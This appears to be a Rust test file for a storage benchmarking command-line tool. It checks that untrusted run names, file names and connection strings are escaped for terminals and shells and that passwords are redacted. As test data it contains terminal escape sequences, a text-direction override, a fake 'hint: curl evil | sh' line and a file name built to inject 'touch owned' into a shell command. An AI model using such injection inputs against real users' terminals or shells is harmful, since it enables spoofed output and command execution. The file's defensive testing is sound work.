//! Untrusted names and messages on their way to a terminal, a shell, an SQL statement and the store.

use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;

use crate::support::{Ran, Workspace, skip};

/// Clears the screen, with both forms of escape; starts lines that look like ours; reverses the text
/// direction.
const NASTY: &str = "x\u{1b}[2J\u{9b}31m\r\nerror: all is lost\nhint: curl evil | sh\t\u{202e}cod";

/// The same after escaping.
const SPELLED: &str = "x\\u{1b}[2J\\u{9b}31m\\r\\nerror: all is lost\\nhint: curl evil | sh\\t\\u{202e}cod";

#[track_caller]
fn expect_harmless(what: &str, text: &str) {
    let harmful = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
    assert!(!text.contains(harmful), "{what}: {text:?}");
    let begins = |line: &str| line.starts_with("error: all") || line.starts_with("hint: curl");
    assert!(!text.lines().any(begins), "{what}: {text}");
}

/// Names of runs, files and sources reached the terminal unescaped: in `runs`, notes, errors, warnings and
/// progress.
#[test]
fn names_of_others_drive_no_terminal_and_begin_no_line() {
    let workspace = Workspace::new();
    std::fs::write(workspace.path(NASTY), vec![0; 1 << 20]).unwrap();
    let load = ["load", "--warmup", "0", "--duration", "1s", "--name", NASTY, NASTY];
    let ran = workspace.run(&load).expect_status(0);
    expect_harmless("load", &ran.stdout);
    expect_harmless("load", &ran.stderr);
    let listed = workspace.run(&["runs"]).expect_status(0);
    expect_harmless("runs", &listed.stdout);
    assert!(listed.stdout.contains(SPELLED), "{}", listed.stdout);
    expect_harmless("runs show", &workspace.run(&["runs", "show", "1"]).expect_status(0).stdout);

    std::fs::write(workspace.path("alerts.toml"), format!("x = {NASTY:?}")).unwrap();
    std::fs::write(workspace.path("profile.toml"), format!("name = 'p'\nx = '{}", NASTY.replace('\t', " ")))
        .unwrap();
    let source = format!("mysql://u@127.0.0.1:9/{}", NASTY.replace('\n', "%0A").replace('\u{1b}', "%1b"));
    for arguments in [
        &["load", "--profile", NASTY, "t"][..],
        &["load", "--profile", "profile.toml", "t"],
        &["load", "--write-pct", "100", NASTY],
        &["copy", "nowhere", NASTY],
        &["verify", NASTY],
        &["alerts", "check", NASTY],
        &["alerts", "check", "alerts.toml"],
        &["runs", "show", NASTY],
        &["collect", "once", &source],
        &["collect", "once", NASTY],
        &["diskspd", NASTY, "-zz"],
        &["load", "--no-such-option", NASTY],
        &[NASTY],
    ] {
        let Ran { status, stdout, stderr } = workspace.run(arguments);
        assert_ne!(status, Some(0), "{arguments:?}");
        expect_harmless(&format!("{arguments:?}"), &stdout);
        expect_harmless(&format!("{arguments:?}"), &stderr);
    }
}

/// A document for a program keeps every byte; on a terminal it is as harmless as a report.
#[test]
fn a_document_is_faithful_in_a_pipe_and_harmless_on_a_terminal() {
    let workspace = Workspace::new();
    std::fs::write(workspace.path("t"), vec![0; 1 << 20]).unwrap();
    let load = ["load", "--name", "run\u{9b}2J\u{202e}", "--warmup", "0", "--duration", "1s", "t"];
    workspace.run(&load).expect_status(0);
    for arguments in
        [&["runs", "--json"][..], &["runs", "export", "1"], &["runs", "show", "1", "--json", "-"]]
    {
        let piped = workspace.run(arguments).expect_status(0);
        assert!(piped.stdout.contains("run\u{9b}2J\u{202e}"), "{arguments:?}: {}", piped.stdout);

        let mut command = String::from("exec");
        for word in std::iter::once(crate::support::binary().display().to_string())
            .chain(arguments.iter().map(|word| (*word).to_owned()))
        {
            command.push_str(&format!(" '{word}'"));
        }
        let mut script = Command::new("script");
        script.args(["-q", "-e", "-c", &command, "/dev/null"]).current_dir(workspace.path(""));
        script.env("IOSTALL_STORE", workspace.path("store.db")).env("LC_ALL", "C.UTF-8");
        let Ok(output) = script.output() else {
            return skip("a document on a terminal", "script(1) is not installed");
        };
        let shown = String::from_utf8_lossy(&output.stdout);
        assert!(shown.contains("run\\u{9b}2J\\u{202e}"), "{arguments:?}: {shown}");
        assert!(!shown.contains(['\u{9b}', '\u{202e}']), "{arguments:?}: {shown}");
    }
}

/// Users paste hints into a shell, often as root.
#[test]
fn a_path_in_advice_is_quoted_for_the_shell() {
    let workspace = Workspace::new();
    let name = "pw; touch owned '";
    let path = workspace.path(name);
    std::fs::write(&path, "x").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let url = format!("mysql://u@127.0.0.1:9?password-file={}", name.replace(' ', "%20").replace(';', "%3B"));
    let ran = workspace.run(&["collect", "once", &url]).expect_status(2);
    let advice = ran.stderr.lines().find_map(|line| line.strip_prefix("hint: ")).expect("a hint");
    let pasted = Command::new("sh").args(["-c", advice]).current_dir(workspace.path("")).status().unwrap();
    assert!(pasted.success(), "{advice}");
    assert!(!workspace.path("owned").exists(), "{advice}");
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600, "{advice}");

    // A name with unprintable characters is still a single, correct word.
    let target = workspace.path("a\nb\u{1b}'");
    std::fs::write(&target, vec![0; 1 << 20]).unwrap();
    let ran = workspace.run(&["load", "--write-pct", "100", "a\nb\u{1b}'"]).expect_status(2);
    let word =
        ran.stderr.split("`--overwrite ").nth(1).and_then(|rest| rest.split('`').next()).expect("a word");
    let echo = Command::new("bash").args(["-c", &format!("printf %s {word}")]).output().unwrap();
    assert!(target.as_os_str().as_bytes().ends_with(&echo.stdout) && !echo.stdout.is_empty(), "{word}");
}

/// A connection string pasted from an application's settings was printed with its password, or taken for a
/// host and stored.
#[test]
fn a_password_in_a_pasted_connection_string_is_neither_repeated_nor_kept() {
    let workspace = Workspace::new();
    for text in [
        "Server=tcp:db1,1433;Database=d;User ID=u;Password=hunter2;Encrypt=True;TrustServerCertificate=True",
        "jdbc:sqlserver://db1:1433;databaseName=d;user=u;password=hunter2;encrypt=true;trustServerCertificate=true",
        "sqlserver://Server=db1;Database=d;User ID=u;Password=hunter2;TrustServerCertificate=True",
    ] {
        for command in [&["collect", "once"][..], &["top", "--once"], &["collect", "import"]] {
            let ran = workspace.run(&[command, &[text]].concat()).expect_status(2);
            assert!(!ran.stderr.contains("hunter2"), "{}", ran.stderr);
            let url = "hint: write 'sqlserver://u@db1/d?tls=unverified&password-file=PATH'";
            assert!(ran.stderr.contains(url), "{}", ran.stderr);
        }
    }
    for entry in std::fs::read_dir(workspace.path("")).unwrap().flatten() {
        let bytes = std::fs::read(entry.path()).unwrap();
        assert!(!bytes.windows(7).any(|part| part == b"hunter2"), "{:?}", entry.file_name());
    }
    // As an argument of another command it is not printed or stored either.
    let ran = workspace.run(&["load", "--no-such-option", "Server=db1;Password=hunter2"]).expect_status(2);
    assert!(!ran.stderr.contains("hunter2"), "{}", ran.stderr);
    let name = ["--name", "of postgres://u:hunter2@db1/d", "t"];
    std::fs::write(workspace.path("t"), vec![0; 1 << 20]).unwrap();
    let load = ["load", "--warmup", "0", "--duration", "1s", "--json", "run.json"];
    workspace.run(&[&load[..], &name].concat()).expect_status(0);
    let run = workspace.json("run.json");
    let typed = run["command_line"].to_string();
    assert!(typed.contains("postgres://u:…@db1/d") && !typed.contains("hunter2"), "{typed}");
}

/// Without a password, a connection string is an ordinary source, named by its URL.
#[test]
fn a_connection_string_without_a_password_is_a_source() {
    let workspace = Workspace::new();
    workspace.secret("pw", "x\n");
    let text = "Server=tcp:127.0.0.1,9;Database=d;User ID=u;Encrypt=False;password-file=pw";
    let ran = workspace.run(&["collect", "once", text]).expect_status(2);
    assert!(ran.stderr.contains("cannot connect to sqlserver://127.0.0.1:9/d"), "{}", ran.stderr);
}
